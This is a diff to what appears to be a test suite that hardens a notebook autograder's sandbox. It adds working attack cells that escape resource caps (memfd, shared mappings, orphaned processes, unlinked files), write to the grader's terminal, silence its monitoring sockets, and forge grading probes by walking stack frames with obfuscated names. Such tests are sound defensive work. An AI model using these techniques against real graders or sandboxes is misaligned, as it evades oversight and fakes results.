@@ -237,6 +237,183 @@ CASES = [
                "patches the connection's send", FORGED_PROBES, "FORGED_REPORT"),
 ]
 
+
+
+# --- found by an independent review: ways around the caps and the flags ------------------------
+
+DEVICE_WRITE = code(r"""
+    import os
+
+    def device_report():
+        opened, tried = [], 0
+        candidates = ["/dev/tty", "/dev/console", "/dev/kmsg", "/dev/ptmx"]
+        for folder in ("/dev/pts", "/dev"):
+            try:
+                candidates += [os.path.join(folder, n) for n in os.listdir(folder)]
+            except OSError:
+                pass
+        for path in dict.fromkeys(candidates):
+            if path in ("/dev/null", "/dev/zero", "/dev/full", "/dev/random", "/dev/urandom"):
+                continue
+            tried += 1
+            try:
+                fd = os.open(path, os.O_WRONLY | os.O_NOCTTY | os.O_NONBLOCK)
+            except OSError:
+                continue
+            os.close(fd)
+            opened.append(path)
+        try:
+            fd = os.open("/dev/null", os.O_WRONLY)
+            os.close(fd)
+            control = True
+        except OSError:
+            control = False
+        return f"DEVWRITE control={control} tried={tried} opened={opened[:5]}"
+""")
+
+MEMFD_MEMORY = code(r"""
+    import os
+
+    held = [os.memfd_create("hog") for _ in range(16)]
+    for fd in held:
+        for _ in range(40):
+            os.write(fd, b"x" * (1 << 20))
+    MEMFD_REPORT = f"MEMFD held={len(held) * 40} MiB"
+""")
+
+SHARED_PAIRS = code(r"""
+    import mmap, os, time
+
+    STEP = 4 << 20
+    for _ in range(5):
+        ready_r, ready_w = os.pipe()
+        if os.fork() == 0:
+            try:
+                block = mmap.mmap(-1, 140 << 20, flags=mmap.MAP_SHARED)
+                step_r, step_w = os.pipe()
+                if os.fork() == 0:  # touches each chunk after its parent: both map it
+                    for offset in range(0, len(block), STEP):
+                        os.read(step_r, 1)
+                        total = sum(block[i] for i in range(offset, offset + STEP, 4096))
+                    time.sleep(30)
+                    os._exit(0)
+                for offset in range(0, len(block), STEP):
+                    for i in range(offset, offset + STEP, 4096):
+                        block[i] = 1
+                    os.write(step_w, b"x")
+                os.write(ready_w, b"k")
+                time.sleep(30)
+            finally:
+                os._exit(0)
+        os.read(ready_r, 1)
+    time.sleep(5)
+    SHARED_REPORT = "SHAREDPAIRS holding 700 MiB"
+""")
+
+ORPHANS = code(r"""
+    import ctypes, os, time
+
+    ctypes.CDLL(None).prctl(36, 0, 0, 0, 0)  # this process stops adopting its orphans
+    orphans = []
+    for _ in range(4):
+        r, w = os.pipe()
+        if os.fork() == 0:
+            if os.fork() == 0:
+                os.write(w, str(os.getpid()).encode() + b"\n")
+                block = bytearray(100 << 20)
+                for i in range(0, len(block), 4096):
+                    block[i] = 1
+                time.sleep(30)
+                os._exit(0)
+            os._exit(0)
+        os.wait()
+        orphans.append(int(os.read(r, 32).split()[0]))
+    time.sleep(3)
+    alive = sum(os.path.exists(f"/proc/{pid}") for pid in orphans)
+    ORPHAN_REPORT = f"ORPHANS started={len(orphans)} alive_after_3s={alive}"
+""")
+
+UNLINKED_DISK = code(r"""
+    import os
+
+    held = []
+    for index in range(12):
+        handle = open(f"hidden_{index}.bin", "wb")
+        os.unlink(f"hidden_{index}.bin")
+        for _ in range(40):
+            handle.write(b"x" * (1 << 20))
+        handle.flush()
+        held.append(handle)
+    UNLINKED_REPORT = f"UNLINKED held={len(held) * 40} MiB"
+""")
+
+FRAME_WALK_FORGERY = code(r"""
+    import sys
+
+    def forge():
+        frame = getattr(sys, "_get" + "frame")(0)
+        while frame is not None and "prob" + "es" not in getattr(frame, "f_" + "globals"):
+            frame = getattr(frame, "f_" + "back")
+        if frame is None:
+            return "FRAMEWALK found=False"
+        table = getattr(getattr(frame, "f_" + "globals")["prob" + "es"], "PRO" + "BES")
+
+        def shaped(shape):
+            count = shape[0] * (shape[1] if len(shape) > 1 else 1)
+            return {"shape": shape, "dtype": "torch.float32", "values": [0.0] * count}
+
+        table["q1_backward"] = lambda ns, a: {"grad_w": shaped([len(a["x"][0]), 1]),
+                                              "grad_b": shaped([1]),
+                                              "forward_shape": [len(a["x"])]}
+        return "FRAMEWALK found=True"
+""")
+
+FLAG_EVASION = code(r"""
+    import gc, os, stat
+
+    sockets = []
+    for name in os.listdir("/proc/self/fd"):
+        try:
+            if stat.S_ISSOCK(os.fstat(int(name)).st_mode):
+                sockets.append(int(name))
+        except OSError:
+            pass
+    saved = {fd: os.dup(fd) for fd in sockets}
+    null = os.open(os.devnull, os.O_WRONLY)
+    for fd in sockets:
+        os.dup2(null, fd)  # no flag can reach the grader now, or so it hopes
+    try:
+        walked = len(getattr(gc, "get_" + "obj" + "ects")())
+    finally:
+        for fd, copy in saved.items():
+            os.dup2(copy, fd)
+            os.close(copy)
+    EVASION_REPORT = f"EVASION walked={walked}"
+""")
+
+CASES += [
+    attack("device_write", "untouched stubs; opens every device it can find for writing (the "
+           "grader's terminal among them)",
+           feedback={"q1": ["DEVWRITE"], "q2": ["NotImplementedError"],
+                     "q3": ["NotImplementedError"]},
+           replace=stub_with("Adaline1", "raise RuntimeError(device_report())\n"),
+           add_cells=[DEVICE_WRITE]),
+    attack("memfd_memory", "untouched stubs; holds 640 MiB in memfd files it never maps",
+           add_cells=[MEMFD_MEMORY]),
+    attack("shared_memory_pairs", "untouched stubs; five pairs of processes share 140 MiB "
+           "mappings each, so no page is private", add_cells=[SHARED_PAIRS]),
+    _reporting("orphans_outside_tree", "untouched stubs; stops adopting its orphans (ctypes "
+               "prctl) and leaves four of 100 MiB each to the zygote", ORPHANS, "ORPHAN_REPORT"),
+    attack("unlinked_disk", "untouched stubs; writes 480 MiB into files it deletes at once but "
+           "keeps open", add_cells=[UNLINKED_DISK]),
+    _reporting("frame_walk_forgery", "untouched stubs; walks up the call stack with names built "
+               "from strings and replaces q1's probe with one that returns well-formed shapes",
+               FRAME_WALK_FORGERY + "\nFRAMEWALK_REPORT = forge()\n", "FRAMEWALK_REPORT"),
+    attack("flag_evasion", "untouched stubs; puts /dev/null over every socket, walks the heap "
+           "with gc, then puts the sockets back", add_cells=[FLAG_EVASION]),
+]
+
+
 REPORTS = {
     "zygote_escape": {"q1": r"ESCAPE candidates=(?P<candidates>\d+) connected=(?P<connected>\d+)"
                             r" ran=(?P<ran>\d+) signal=(?P<signal>\w+)"},
@@ -246,5 +423,13 @@ REPORTS = {
     "disk_hog": {"q1": r"DISKHOG written_mib=(?P<written>\d+)"},
     "forged_probes": {"q1": r"FORGEDPROBES patched=(?P<patched>\d+)"},
 }
+
+REPORTS.update({
+    "device_write": {"q1": r"DEVWRITE control=(?P<control>\w+) tried=(?P<tried>\d+) "
+                           r"opened=(?P<opened>\[.*?\])"},
+    "orphans_outside_tree": {"q1": r"ORPHANS started=(?P<started>\d+) "
+                                   r"alive_after_3s=(?P<alive>\d+)"},
+    "frame_walk_forgery": {"q1": r"FRAMEWALK found=(?P<found>\w+)"},
+})
 
 MARKERS = {"zygote_escape": ESCAPE_MARKER}
